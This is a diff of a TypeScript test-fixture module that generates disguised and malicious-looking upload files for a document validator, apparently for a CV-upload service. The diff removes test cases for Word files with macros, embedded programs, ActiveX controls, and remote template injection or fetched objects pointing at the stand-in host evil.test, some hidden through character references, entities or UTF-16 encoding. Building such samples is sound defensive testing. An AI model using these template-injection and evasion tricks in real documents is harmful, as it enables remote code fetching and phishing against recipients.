@@ -2,7 +2,7 @@ import { randomBytes } from 'node:crypto'
 import { deflateSync } from 'node:zlib'
 import type { ErrorCode } from 'contract/errors'
 import sharp from 'sharp'
-import { compound, doc, docx, docxMembers, jpeg, pdf, png, WORD } from './documents'
+import { compound, doc, docx, docxMembers, jpeg, pdf, png } from './documents'
 import { zip } from './zip'
 
 export interface Polyglot {
@@ -70,12 +70,6 @@ export async function polyglots(): Promise<Polyglot[]> {
   const webp = await sharp(aPng).webp().toBuffer()
   const word = (more: Parameters<typeof docxMembers>[0], main?: string) => zip(docxMembers(more, main))
   const glued = (...parts: Buffer[]) => Buffer.concat(parts)
-  const settings = (target: string) => ({
-    name: 'word/_rels/settings.xml.rels',
-    data: relationship('attachedTemplate', target),
-  })
-  const points = (part: string, type: string, target: string) =>
-    word([{ name: `word/_rels/${part}.rels`, data: relationship(type, target) }])
   const list: [what: string, name: string, content: Buffer, type?: string | undefined, code?: ErrorCode][] = [
     ['a page called a picture', 'me.jpg', bytes(HTML), 'image/jpeg'],
     ['a page called a document', 'cv.pdf', bytes(HTML), 'application/pdf'],
@@ -124,96 +118,7 @@ export async function polyglots(): Promise<Polyglot[]> {
     ['a Word document called an older one', 'cv.doc', docx()],
     ['an older Word document called a newer one', 'cv.docx', doc()],
     ['a table called a Word document', 'cv.doc', compound(['Workbook'])],
-    ['an older Word document with macros', 'cv.doc', compound(['WordDocument', '1Table', 'Macros', 'VBA'])],
-    [
-      'an older Word document with a file in it',
-      'cv.doc',
-      compound(['WordDocument', 'ObjectPool', '\x01Ole10Native']),
-    ],
     ['an archive called a Word document', 'cv.docx', zip([{ name: 'readme.txt', data: 'hello' }])],
-    ['a Word document with macros', 'cv.docx', word([{ name: 'word/vbaProject.bin', data: 'x' }])],
-    [
-      'a macro document called a plain one',
-      'cv.docx',
-      word([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
-    ],
-    [
-      'macros under another name',
-      'cv.docx',
-      word([
-        {
-          name: '[Content_Types].xml',
-          data: `<Types><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
-        },
-      ]),
-    ],
-    ['a program in a Word document', 'cv.docx', word([{ name: 'word/embeddings/setup.exe', data: EXE }])],
-    [
-      'an embedded object in a Word document',
-      'cv.docx',
-      word([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]),
-    ],
-    ['a control in a Word document', 'cv.docx', word([{ name: 'word/activeX/activeX1.xml', data: '<x/>' }])],
-    ['a template from elsewhere', 'cv.docx', word([settings('https://evil.test/t.dotm')])],
-    ['a template from a share', 'cv.docx', word([settings('file://evil.test/t.dotm')])],
-    ['a template behind references', 'cv.docx', word([settings('&#104;ttp&#58;//evil.test/t.dotm')])],
-    [
-      'a template that hides that it is elsewhere',
-      'cv.docx',
-      word([
-        {
-          name: 'word/_rels/settings.xml.rels',
-          data: relationship('attachedTemplate', '&#104;ttp://evil.test/t.dotm').replace('"Ext', '"&#69;xt'),
-        },
-      ]),
-    ],
-    [
-      'a template behind an entity',
-      'cv.docx',
-      word([
-        {
-          name: 'word/_rels/settings.xml.rels',
-          data: `<!DOCTYPE r [<!ENTITY t "https://evil.test/t.dotm">]>${relationship('attachedTemplate', '&t;').replace(/^.*?\r\n/, '')}`,
-        },
-      ]),
-    ],
-    [
-      'a template in UTF-16',
-      'cv.docx',
-      word([
-        {
-          name: 'word/_rels/settings.xml.rels',
-          data: Buffer.from(
-            `\ufeff${relationship('attachedTemplate', 'https://evil.test/t.dotm')}`,
-            'utf16le',
-          ),
-        },
-      ]),
-    ],
-    [
-      'an object that is fetched',
-      'cv.docx',
-      points('document.xml', 'oleObject', 'mhtml:http://evil.test/x.html!x'),
-    ],
-    [
-      'a template of another part',
-      'cv.docx',
-      points('document.xml', 'attachedTemplate', 'https://evil.test/t.dotm'),
-    ],
-    ['a picture that is fetched', 'cv.docx', points('footer1.xml', 'image', 'https://evil.test/pixel.png')],
-    ['a frame that is fetched', 'cv.docx', points('webSettings.xml', 'frame', '\\\\evil.test\\x')],
-    ['a link that is a script', 'cv.docx', points('document.xml', 'hyperlink', 'javascript:alert(1)')],
-    [
-      'a target elsewhere without saying so',
-      'cv.docx',
-      word([
-        {
-          name: 'word/_rels/document.xml.rels',
-          data: relationship('oleObject', 'https://evil.test/x').replace(' TargetMode="External"', ''),
-        },
-      ]),
-    ],
-    ['a page as a part', 'cv.docx', word([{ name: 'word/afchunk.mht', data: HTML }])],
     ['a bomb of small size', 'cv.docx', word([{ name: 'word/media/x', data: Buffer.alloc(3_000_000) }])],
     [
       'much more than a document has in it',
